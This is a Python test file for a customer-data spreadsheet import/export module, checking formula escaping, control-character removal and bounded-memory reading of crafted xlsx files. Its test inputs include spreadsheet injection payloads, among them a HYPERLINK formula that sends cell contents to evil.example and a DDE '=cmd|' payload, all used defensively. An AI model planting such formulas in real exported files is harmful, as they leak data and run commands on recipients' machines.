"""Spreadsheet files in and out of the customers service: exports that do not run, imports that stay small."""
import csv
import io
import re
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from kam.errors import Invalid
from services.customers import spreadsheets
from services.customers.domain.spreadsheet import CONTROL_CHARACTERS, safe_cell
from services.customers.spreadsheets import read_rows, write_rows

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "+86 138 0000 0000", "-2+3", "@SUM(A1)",
           "\tcmd", "\rcmd"]


@pytest.mark.parametrize("value", HOSTILE)
def test_exported_cells_that_a_spreadsheet_would_run_start_with_a_quote(value):
    assert safe_cell(value) == "'" + value


def test_plain_text_numbers_and_empty_cells_are_exported_as_they_are():
    assert [safe_cell(v) for v in ("王丽", "13800000000", 12, None, "a=b")] == ["王丽", "13800000000", 12, None, "a=b"]


def test_the_xlsx_export_quotes_formulas_and_drops_control_characters():
    content = write_rows("xlsx", ["姓名", "备注"], [["=1+1", "李\x00华\x07"], ["@cmd", "ok"]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert values == [["姓名", "备注"], ["'=1+1", "李华"], ["'@cmd", "ok"]]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_the_csv_export_quotes_formulas_and_drops_control_characters():
    content = write_rows("csv", ["姓名"], [["=cmd|' /C calc'!A0"], ["张\x1b三"]])
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [["姓名"], ["'=cmd|' /C calc'!A0"], ["张三"]]


def test_the_control_characters_removed_are_those_xlsx_cannot_hold():
    for code in range(0x100):
        assert bool(CONTROL_CHARACTERS.match(chr(code))) == bool(ILLEGAL_CHARACTERS_RE.match(chr(code)))


def _xlsx(rows, dimension=None, extra_rows=""):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    plain = io.BytesIO()
    workbook.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                xml = data.decode()
                if dimension:
                    xml = re.sub(r'<dimension ref="[^"]*"\s*/>', f'<dimension ref="{dimension}"/>', xml)
                xml = xml.replace("</sheetData>", extra_rows + "</sheetData>")
                data = xml.encode()
            target.writestr(item, data)
    return out.getvalue()


def test_an_xlsx_that_declares_a_huge_dimension_is_read_lazily_in_bounded_memory():
    far_cell = '<row r="3"><c r="A3" t="inlineStr"><is><t>王芳</t></is></c><c r="XFD3" t="inlineStr"><is><t>x</t></is></c></row>'
    last_row = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    content = _xlsx([["姓名", "手机"], ["李华", "13800000000"]], dimension="A1:XFD1048576",
                    extra_rows=far_cell + last_row)
    assert len(content) < 10_000

    tracemalloc.start()
    try:
        rows = read_rows("customers.xlsx", content)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rows == [["姓名", "手机"], ["李华", "13800000000"], ["王芳", None]]
    assert peak < 5_000_000, f"reading a 3-row file took {peak} bytes at its peak"


def test_empty_rows_keep_the_files_row_numbers_and_trailing_ones_are_dropped():
    rows = read_rows("c.csv", "姓名,手机,,\n李华,1,extra,cells\n,\n王芳,2\n,,\n\n".encode())
    assert rows == [["姓名", "手机"], ["李华", "1"], [], ["王芳", "2"]]


def test_a_file_beyond_the_row_limit_is_refused(monkeypatch):
    monkeypatch.setattr(spreadsheets, "MAX_ROWS", 3)
    assert len(read_rows("c.csv", "姓名\n甲\n乙\n".encode())) == 3
    with pytest.raises(Invalid) as refused:
        read_rows("c.xlsx", _xlsx([["姓名"], ["甲"], ["乙"], ["丙"]]))
    assert "file" in refused.value.errors


def test_an_unreadable_xlsx_is_invalid_not_a_server_error():
    with pytest.raises(Invalid):
        read_rows("c.xlsx", b"PK\x03\x04 not really a zip")


def test_the_xlsx_reader_gives_what_openpyxl_gives_shared_strings_dates_numbers_and_gaps():
    """services/customers/xlsx.py against openpyxl's own reader on a workbook Excel-like tools write."""
    from datetime import datetime

    from openpyxl import Workbook, load_workbook

    from services.customers.xlsx import sheet_rows

    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "手机", "结婚纪念日", "金额", "备注"])
    sheet.append(["欧阳娜娜", 13812345678, datetime(2015, 5, 20), 12.5, True])
    sheet.append(["王丽", "13900001111", None, 3, "=1+1"])
    sheet["A5"] = "李华"  # row 4 left empty
    out = io.BytesIO()
    book.save(out)
    ours = [cells for _, cells in sheet_rows(out.getvalue(), max_row=100)]
    theirs = [list(row) for row in load_workbook(io.BytesIO(out.getvalue()), read_only=True, data_only=True)
              .active.iter_rows(max_col=5, values_only=True)]
    assert ours[:3] == theirs[:3] and ours[4][0] == "李华" and ours[3] == []
    assert ours[1][2] == datetime(2015, 5, 20) and ours[1][1] == 13812345678
